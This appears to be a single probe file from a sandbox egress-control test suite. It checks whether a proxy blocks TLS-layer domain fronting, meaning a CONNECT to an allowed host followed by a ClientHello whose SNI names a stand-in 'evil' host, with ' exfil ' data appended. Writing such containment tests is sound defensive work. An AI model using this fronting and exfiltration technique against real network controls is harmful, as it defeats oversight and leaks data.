from ._net import ALLOW, PROXY

ID = "net.proxy-sni-mismatch"
CATEGORY = "network"
DESCRIPTION = ("CONNECT to the allowed name, then a TLS ClientHello whose SNI names another host "
               "(<data>.evil.probe.test): domain fronting at the TLS layer")
CLAIMS = ("rule:network.mode",)
POLICY = ALLOW
CODE = PROXY + """
import ssl
sni = os.environ.get("PROBE_SNI") or f"{DATA}.evil.{DOMAIN}"
ctx = ssl.create_default_context()
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(inc, outg, server_hostname=sni)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outg.read()            # the ClientHello, with the SNI in clear
t = f"sink.{DOMAIN}:{SINK_PORT}"
line = proxy_send(f"CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n".encode(),
                  then=hello + (" exfil " + DATA).encode())
out("DENIED", f"CONNECT {t}, SNI {sni.split('.', 1)[-1]}: {line}; what passed is seen at the sink")
"""
CONTROL = {"code": PROXY + """
import ssl
ctx = ssl.create_default_context()
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(inc, outg, server_hostname=f"sink.{DOMAIN}")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
t = f"sink.{DOMAIN}:{SINK_PORT}"
line = proxy_send(f"CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n".encode(),
                  then=outg.read() + (" exfil " + DATA).encode())
out("DENIED", f"control, SNI = the CONNECT host: {line}")
""", "where": "sandbox"}
CONTAINED = "the proxy cuts the tunnel on the SNI mismatch: no byte of the ClientHello or the data reaches the sink"
